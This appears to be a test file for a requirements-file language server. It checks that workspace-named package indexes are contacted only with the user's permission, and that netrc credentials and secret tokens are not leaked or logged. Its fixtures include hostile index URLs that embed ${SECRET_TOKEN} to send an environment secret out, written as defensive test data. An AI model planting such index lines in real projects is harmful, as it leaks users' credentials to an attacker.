// Issue 29, finding 1: an index that only the workspace names (a requirements file's --index-url, a committed
// venv's pip.conf) is contacted once the user allows its origin; netrc's `default` entry never goes to it.
// Every index here is a real HTTP server on 127.0.0.1 that records what it was asked.

import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { TestClient, indexedEnv, testEnv } from './client.ts';
import { FIXTURE_PROJECTS, startIndexServer, type IndexServer } from '../fixtures/indexServer.ts';

const SECRET = 'AKIA-TOP-SECRET';
const NETRC_PASSWORD = 'CORP-NETRC-PW';
const cleanups: (() => Promise<void> | void)[] = [];
after(async () => {
  for (const c of cleanups.reverse()) await c();
});

function workspace(): { dir: string; netrc: string } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rls-trust-'));
  const netrc = path.join(dir, 'netrc');
  fs.writeFileSync(netrc, `default login corpuser password ${NETRC_PASSWORD}\n`);
  cleanups.push(() => fs.rmSync(dir, { recursive: true, force: true }));
  return { dir, netrc };
}

async function hostile(): Promise<IndexServer> {
  const server = await startIndexServer(FIXTURE_PROJECTS);
  cleanups.push(() => server.stop());
  return server;
}

async function start(options: Parameters<typeof TestClient.start>[0]): Promise<TestClient> {
  const { client } = await TestClient.start(options);
  cleanups.push(() => client.stop());
  return client;
}

/** The environment of a user with no index of their own configured (PyPI, unreachable here) and a netrc `default`. */
function userEnv(netrc: string, extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  const env = testEnv({ NETRC: netrc, SECRET_TOKEN: SECRET, ...extra });
  delete env.PIP_NO_INDEX;
  return env;
}

const carriesSecret = (server: IndexServer) =>
  server.requests.filter(
    (r) =>
      r.path.includes(SECRET) ||
      Buffer.from((r.authorization ?? '').replace(/^Basic /, ''), 'base64')
        .toString()
        .includes(NETRC_PASSWORD),
  );

/** Opens the file and asks what an editor asks at once (diagnostics, a completion and a hover that wait briefly). */
async function openAndAsk(client: TestClient, file: string, text: string): Promise<string> {
  const uri = client.open(file, text);
  await client.waitForDiagnostics(uri, () => true, 10_000);
  const last = text.split('\n').length - 2;
  await client.request('textDocument/completion', { textDocument: { uri }, position: { line: last, character: text.split('\n')[last].length } });
  await client.request('textDocument/hover', { textDocument: { uri }, position: { line: last, character: 1 } });
  return uri;
}

const settle = () => new Promise((r) => setTimeout(r, 1500));

test('a file naming an index with ${SECRET} in its path: with the prompt unanswered, that host gets no request at all', async () => {
  const { dir, netrc } = workspace();
  const evil = await hostile();
  const client = await start({ env: userEnv(netrc), answer: () => 'never' });
  await openAndAsk(client, path.join(dir, 'requirements.txt'), `--index-url ${evil.url}/\${SECRET_TOKEN}/simple\nrequests==\n`);
  await settle();
  assert.deepEqual(evil.requests, [], 'nothing was sent before the user answered');
  assert.equal(client.prompts.length, 1, 'asked once');
  const origin = new URL(evil.url).origin;
  assert.ok(client.prompts[0].message.includes(origin), client.prompts[0].message);
  assert.ok(!client.prompts[0].message.includes(SECRET), 'the question names the origin, not the path');
  assert.ok(client.prompts[0].message.startsWith('A requirements file in this workspace names the package index'), client.prompts[0].message);
  assert.deepEqual(
    client.prompts[0].actions?.map((a) => a.title),
    ['Allow', "Don't allow"],
  );
  assert.ok(!client.logs.join('\n').includes(SECRET), 'the log does not carry the secret');
});

test('refused (or dismissed): no request, and no second question on edits', async () => {
  const { dir, netrc } = workspace();
  const evil = await hostile();
  for (const answer of ["Don't allow", undefined]) {
    const client = await start({ env: userEnv(netrc), answer: () => answer });
    const uri = await openAndAsk(client, path.join(dir, `refused-${answer ? 'no' : 'dismissed'}.txt`), `--index-url ${evil.url}/simple\nrequests==\n`);
    client.change(uri, [{ text: `--index-url ${evil.url}/simple\nflask==\n` }]);
    await client.request('textDocument/completion', { textDocument: { uri }, position: { line: 1, character: 7 } });
    await settle();
    assert.equal(client.prompts.length, 1, `${answer ?? 'dismissed'}: asked once, not again`);
  }
  assert.deepEqual(evil.requests, []);
});

test('allowed: the index is used, netrc `default` credentials are not sent to it, and the answer is remembered', async () => {
  const { dir, netrc } = workspace();
  const index = await hostile();
  const state = fs.mkdtempSync(path.join(os.tmpdir(), 'rls-state-'));
  cleanups.push(() => fs.rmSync(state, { recursive: true, force: true }));
  const env = userEnv(netrc, { XDG_STATE_HOME: state });
  const client = await start({ env, answer: (p) => (p.actions?.some((a) => a.title === 'Allow') ? 'Allow' : undefined) });
  const uri = client.open(path.join(dir, 'requirements.txt'), `--index-url ${index.url}/simple\nrequests==\n`);
  let labels: string[] = [];
  for (let i = 0; i < 50 && !labels.length; i++) {
    labels = (await client.request('textDocument/completion', { textDocument: { uri }, position: { line: 1, character: 10 } })).items.map(
      (x: { label: string }) => x.label,
    );
    if (!labels.length) await new Promise((r) => setTimeout(r, 100));
  }
  assert.ok(labels.includes('2.32.3'), `versions from the allowed index: ${labels.join(', ')}`);
  assert.ok(index.requests.length > 0);
  assert.deepEqual(carriesSecret(index), [], 'netrc `default` credentials stay with the origins the user configured');
  const remembered = JSON.parse(fs.readFileSync(path.join(state, 'requirements-language-server', 'allowed-indexes.json'), 'utf8'));
  assert.deepEqual(remembered.allowed, [new URL(index.url).origin]);

  // A new session with the same state asks nothing and uses it.
  const again = await start({ env, answer: () => 'never' });
  const uri2 = again.open(path.join(dir, 'requirements.txt'), `--index-url ${index.url}/simple\ndjango==\n`);
  let django: string[] = [];
  for (let i = 0; i < 50 && !django.length; i++) {
    django = (await again.request('textDocument/completion', { textDocument: { uri: uri2 }, position: { line: 1, character: 8 } })).items.map(
      (x: { label: string }) => x.label,
    );
    if (!django.length) await new Promise((r) => setTimeout(r, 100));
  }
  assert.deepEqual(django, ['5.0.6', '4.2.11'], 'completes from the remembered index');
  assert.equal(again.prompts.length, 0);
});

test('a committed venv pip.conf naming an index: not contacted without an answer', async () => {
  const { dir, netrc } = workspace();
  const evil = await hostile();
  const venv = path.join(dir, '.venv');
  fs.mkdirSync(path.join(venv, 'lib', 'python3.11', 'site-packages'), { recursive: true });
  fs.mkdirSync(path.join(venv, 'bin'));
  fs.writeFileSync(path.join(venv, 'pyvenv.cfg'), 'home = /usr/bin\nversion = 3.11.7\n');
  fs.writeFileSync(path.join(venv, 'pip.conf'), `[global]\nindex-url = ${evil.url}/\${SECRET_TOKEN}/simple\n`);
  // pip's config files are read here (PIP_CONFIG_FILE=/dev/null would turn them all off), the user's own from an empty HOME.
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'rls-home-'));
  cleanups.push(() => fs.rmSync(home, { recursive: true, force: true }));
  const env = userEnv(netrc, { HOME: home, XDG_CONFIG_DIRS: '/nonexistent', XDG_CONFIG_HOME: path.join(home, '.config') });
  delete env.PIP_CONFIG_FILE;
  const client = await start({ env, answer: () => 'never', rootUri: `file://${dir}`, initializationOptions: { diagnostics: { environment: true } } });
  await openAndAsk(client, path.join(dir, 'requirements.txt'), 'requests==2.31.0\nflask==\n');
  await settle();
  assert.deepEqual(evil.requests, []);
  assert.equal(client.prompts.length, 1, client.logs.join('\n'));
  assert.ok(client.prompts[0].message.startsWith(`The environment's ${path.join(venv, 'pip.conf')} names the package index`), client.prompts[0].message);
});

test('the user’s own configuration needs no permission, and keeps netrc `default` as pip does', async () => {
  const { dir, netrc } = workspace();
  const index = await hostile();
  const client = await start({ env: indexedEnv(index.url, { NETRC: netrc }), answer: () => 'never' });
  await openAndAsk(client, path.join(dir, 'requirements.txt'), 'requests==\n');
  assert.equal(client.prompts.length, 0);
  assert.ok(index.requests.some((r) => r.path === '/simple/requests/'));
  assert.ok(
    index.requests.every((r) => r.authorization?.startsWith('Basic ')),
    'the default entry goes to the index the user configured',
  );
});

test('"always" contacts the workspace’s index without asking, still without netrc `default`; "never" and Restricted Mode never do', async () => {
  const { dir, netrc } = workspace();
  const index = await hostile();
  const always = await start({
    env: userEnv(netrc),
    answer: () => 'never',
    initializationOptions: { diagnostics: { environment: false }, index: { allowWorkspaceIndexes: 'always' } },
  });
  await openAndAsk(always, path.join(dir, 'always.txt'), `--index-url ${index.url}/simple\nrequests==\n`);
  assert.equal(always.prompts.length, 0);
  assert.ok(index.requests.some((r) => r.path === '/simple/requests/'));
  assert.deepEqual(carriesSecret(index), []);

  const closed = await hostile();
  for (const initializationOptions of [
    { diagnostics: { environment: false }, index: { allowWorkspaceIndexes: 'never' } },
    { diagnostics: { environment: false }, index: { allowWorkspaceIndexes: 'always' }, workspaceTrusted: false },
  ]) {
    const client = await start({ env: userEnv(netrc), answer: () => 'Allow', initializationOptions });
    await openAndAsk(client, path.join(dir, 'closed.txt'), `--index-url ${closed.url}/simple\nrequests==\n`);
    await settle();
    assert.equal(client.prompts.length, 0, JSON.stringify(initializationOptions));
  }
  assert.deepEqual(closed.requests, []);
});

test('Restricted Mode: a workspace that claims trust through its settings does not get it, and commands that run a tool do not run', async () => {
  const { dir, netrc } = workspace();
  const closed = await hostile();
  const client = await start({
    env: userEnv(netrc),
    answer: () => 'Allow',
    initializationOptions: { diagnostics: { environment: false }, workspaceTrusted: false },
    capabilities: { workspace: { configuration: true } },
    configuration: { workspaceTrusted: true, index: { allowWorkspaceIndexes: 'always' } },
  });
  const file = path.join(dir, 'requirements.in');
  fs.writeFileSync(file, `--index-url ${closed.url}/simple\nrequests\n`);
  const uri = await openAndAsk(client, file, `--index-url ${closed.url}/simple\nrequests\n`);
  await settle();
  assert.deepEqual(closed.requests, []);
  const result = await client.request('workspace/executeCommand', { command: 'requirements.compile', arguments: [uri] });
  assert.equal(result?.ok, false);
  assert.match(result?.message ?? '', /Restricted Mode/);
  assert.ok(!fs.existsSync(path.join(dir, 'requirements.txt')), 'nothing was compiled');
});

test('check: an index only the checked file names is asked only with --allow-file-indexes, and never with netrc `default`', async () => {
  const { spawn } = await import('node:child_process');
  const { fileURLToPath } = await import('node:url');
  const { VULNERABLE_PROJECTS } = await import('../fixtures/indexServer.ts');
  const { ADVISORIES } = await import('../fixtures/advisories.ts');
  const bin = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../server/bin/requirements-language-server.cjs');
  const { dir, netrc } = workspace();
  const index = await startIndexServer(VULNERABLE_PROJECTS, { advisories: ADVISORIES });
  cleanups.push(() => index.stop());
  fs.writeFileSync(path.join(dir, 'requirements.txt'), `--index-url ${index.url}/simple\nrequests==2.30.0\n`);
  const run = (args: string[]) =>
    new Promise<{ stdout: string; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [bin, 'check', ...args, 'requirements.txt'], { cwd: dir, env: userEnv(netrc) });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (b: Buffer) => (stdout += b.toString()));
      child.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
      child.on('close', () => resolve({ stdout, stderr }));
    });
  const refused = await run([]);
  assert.deepEqual(index.requests, []);
  assert.match(refused.stderr, /names its own index, http:\/\/127\.0\.0\.1:\d+, which check asks only with --allow-file-indexes/);
  const allowed = await run(['--allow-file-indexes']);
  assert.match(allowed.stdout, /vulnerable/, allowed.stdout + allowed.stderr);
  assert.ok(index.requests.length > 0);
  assert.deepEqual(carriesSecret(index), [], 'no netrc `default` credentials for a file-named index');
});

test('allowed, with ${SECRET_TOKEN} in the index path: requests carry it (as pip sends them), but no log line, message or hover shows it', async () => {
  const { dir, netrc } = workspace();
  const index = await hostile();
  const client = await start({ env: userEnv(netrc), answer: () => 'Allow' });
  const uri = client.open(path.join(dir, 'secret-path.txt'), `--index-url ${index.url}/\${SECRET_TOKEN}/simple\nrequests==2.31.0\n`);
  for (let i = 0; i < 50 && !index.requests.length; i++) await new Promise((r) => setTimeout(r, 100));
  assert.ok(
    index.requests.some((r) => r.path.startsWith(`/${SECRET}/`)),
    'the index is asked at the expanded URL, as pip asks it',
  );
  await settle();
  const hover = await client.request('textDocument/hover', { textDocument: { uri }, position: { line: 1, character: 2 } });
  const shown = [
    ...client.logs,
    ...client.notifications.map((n) => JSON.stringify(n.params)),
    JSON.stringify(hover),
    JSON.stringify(client.diagnostics.get(uri)),
  ];
  assert.ok(
    shown.some((s) => s.includes('${SECRET_TOKEN}')),
    'the URL is named, as written',
  );
  assert.deepEqual(
    shown.filter((s) => s.includes(SECRET)),
    [],
  );
});
